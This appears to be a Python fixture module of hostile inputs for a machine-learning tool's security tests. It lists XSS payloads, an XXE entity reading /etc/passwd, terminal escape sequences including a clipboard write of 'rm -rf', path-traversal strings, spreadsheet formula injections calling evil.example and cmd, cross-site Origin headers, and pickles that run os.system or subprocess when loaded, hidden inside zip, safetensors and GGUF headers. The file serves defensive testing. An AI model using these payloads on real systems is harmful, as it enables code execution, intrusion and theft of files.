# SPDX-License-Identifier: Apache-2.0
"""Input of somebody who means harm: what the tests in security/ give to every edge."""

from __future__ import annotations

import io
import pathlib
import pickle
import struct
import zipfile
from typing import Any

HTML = tuple(
    text
    for mark in ("window.pwned=1",)
    for text in (
        f"<script>{mark}</script>",
        f"<ScRiPt>{mark}</sCrIpT>",
        f"</script><script>{mark}</script>",
        f"<scr<script>ipt>{mark}</scr</script>ipt>",
        f"<img src=x onerror={mark}>",
        f'<img src="x" onerror="{mark}">',
        f'"><img src=x onerror={mark}>',
        f"'><img src=x onerror='{mark}'>",
        f"<svg onload={mark}>",
        f"<svg><script>{mark}</script></svg>",
        f'"/><svg/onload={mark}>',
        f"<svg><animate onbegin={mark} attributeName=x dur=1s>",
        f"<iframe src=javascript:parent.{mark}></iframe>",
        f'<iframe srcdoc="<script>parent.{mark}</script>"></iframe>',
        f"<body onload={mark}>",
        f"<details open ontoggle={mark}>",
        f"<video><source onerror={mark}></video>",
        f"<audio src=x onerror={mark}>",
        f"<input autofocus onfocus={mark}>",
        f"<select autofocus onfocus={mark}>",
        f"<a href=javascript:{mark}>x</a>",
        f'<a href="jav&#x09;ascript:{mark}">x</a>',
        f"<object data=javascript:{mark}>",
        f"<embed src=javascript:{mark}>",
        f"<math><mi xlink:href=javascript:{mark}>x</mi></math>",
        f"<style>@import 'javascript:{mark}';</style>",
        f"<link rel=stylesheet href=javascript:{mark}>",
        f"<meta http-equiv=refresh content='0;url=javascript:{mark}'>",
        f"<base href=javascript:{mark}//>",
        f"<form action=javascript:{mark}><button>x</button></form>",
        f"<button formaction=javascript:{mark}>x</button>",
        f"<table background=javascript:{mark}>",
        f"<template><script>{mark}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={mark}>'>",
        f"<!--><script>{mark}</script-->",
        f"<![CDATA[<script>{mark}</script>]]>",
        f"<?xml version='1.0'?><script>{mark}</script>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        f"&lt;script&gt;{mark}&lt;/script&gt;",
        f"&#60;script&#62;{mark}&#60;/script&#62;",
        f"\\u003cscript\\u003e{mark}\\u003c/script\\u003e",
        f"%3Cscript%3E{mark}%3C/script%3E",
        f"javascript:{mark}",
        f"data:text/html,<script>{mark}</script>",
        f"' onmouseover='{mark}' x='",
        f'" onmouseover="{mark}" x="',
        f"` onmouseover=`{mark}` x=`",
        f"${{{mark}}}",
        f"{{{{constructor.constructor('{mark}')()}}}}",
        f"<%= {mark} %>",
    )
)

# What a terminal obeys.
TERMINAL = (
    "\x1b[31mred", "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1b[?25l", "\x1b[8m", "\x1b[5m", "\x1b[6n", "\x1bc", "\x1b7",
    "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]50;#1\x07", "\x1bP+q544e\x1b\\", "\x1b_Gf=100;AAAA\x1b\\", "\x1b^x\x1b\\", "\x1b[20h", "\x1b[?1049h", "\x1b#8",
    "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c", "\x84\x85\x8d", "\x07", "\x08\x08\x08", "\r hidden", "\x0b", "\x0c", "\x0e",
    "\x0f", "\x7f", "\x00", "a\x1b", "\u202egnp.exe", "\u2066x\u2069", "\u200b\u200e", "\u2028", "\u2029", "\ufeff",
)  # fmt: skip

TRAVERSAL = (
    "../../etc/passwd", "../" * 20 + "etc/passwd", "/etc/passwd", "//etc/passwd", "file:///etc/passwd", "..\\..\\etc\\passwd",
    "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd", "..\u2215..\u2215etc\u2215passwd", "..\uff0f..\uff0fetc\uff0fpasswd", "checkpoints/../../etc/passwd",
    "./../x.safetensors", "a/../../x.safetensors", "~/x.safetensors", "$HOME/x.safetensors", "${HOME}/x.safetensors",
    "C:\\Windows\\win.ini", "C:x.safetensors", "\\\\server\\share\\x.safetensors", "//server/share/x.safetensors", "\\\\?\\C:\\x.safetensors",
    "/proc/self/environ", "/proc/self/fd/0", "/dev/zero", "/dev/stdin", "x.safetensors\x00.txt", "x\x00/../../etc/passwd",
    "x.safetensors/../../etc/passwd", "x.safetensors/..", "..", ".", "/", "\\", "a" * 5000, "../" * 5000, "x.safetensors:stream", "CON",
)  # fmt: skip

FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)", "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", ";=1+1", ",=1+1", "\"=1+1\"", "'=1+1", "%0A=1+1", "cuda:0\n=1+1", "cuda:0,=1+1", "cuda:0\",\"=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip

# What a page of another site, and what an attacker's program would send.
CROSS_SITE: tuple[dict[str, str], ...] = (
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Sec-Fetch-Site": "CROSS-SITE"},
    {"Sec-Fetch-Site": ""},
    {"Sec-Fetch-Site": "same-origin, cross-site"},
    {"Sec-Fetch-Site": "cross-site", "Origin": "http://{host}"},
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Origin": "http://127.0.0.1:1"},
    {"Origin": "http://{host}.evil.example"},
    {"Origin": "http://evil.example/http://{host}"},
    {"Origin": "http://evil.example#{host}"},
    {"Origin": "http://evil.example?{host}"},
    {"Origin": "http://evil@{host}"},
    {"Origin": "http://{host}@evil.example"},
    {"Origin": "http://{host}:80"},
    {"Origin": "//evil.example"},
    {"Origin": "file://"},
    {"Origin": "chrome-extension://abcdef"},
    {"Origin": "http://localhost", "Host": "evil.example"},
)


def pickles(marker: pathlib.Path) -> dict[str, bytes]:
    """Pickles, and archives with one in them, that would make a file if anything of them were run."""

    class Evil:
        def __reduce__(self) -> Any:
            return (pathlib.Path(marker).touch, ())

    path = str(marker)
    found = {f"protocol {p}": pickle.dumps(Evil(), protocol=p) for p in range(6)}
    line = f"touch {path}".encode()
    found["global"] = b"cos\nsystem\n(S'" + line + b"'\ntR."
    found["inst"] = b"(S'" + line + b"'\nios\nsystem\n."
    found["obj"] = b"(cos\nsystem\nS'" + line + b"'\no."
    found["builtins"] = b"cbuiltins\nexec\n(S'open(\"" + path.encode() + b'","w")\'\ntR.'
    found["newobj"] = b"\x80\x02csubprocess\nPopen\n(S'" + line + b"'\nI01\ntR."
    found["stack global"] = (
        b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(line)]) + line + b"\x85R."
    )
    found["magic of old torch"] = (
        pickle.dumps(0x1950A86A20F9469CFC6C) + pickle.dumps(1001) + pickle.dumps(Evil())
    )
    for inside in ("archive/data.pkl", "data.pkl", "x/constants.pkl", "x/code/__torch__.py"):
        for name in ("protocol 2", "global"):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as archive:
                archive.writestr(inside, found[name])
                archive.writestr(inside.partition("/")[0] + "/version", "3")
                archive.writestr(inside.partition("/")[0] + "/byteorder", "little")
            found[f"zip: {inside}, {name}"] = buffer.getvalue()
    header = b'{"__metadata__":{"format":"pt"}}'
    found["behind a safetensors header"] = struct.pack("<Q", len(header)) + header + found["global"]
    found["behind a GGUF header"] = b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + found["global"]
    return found
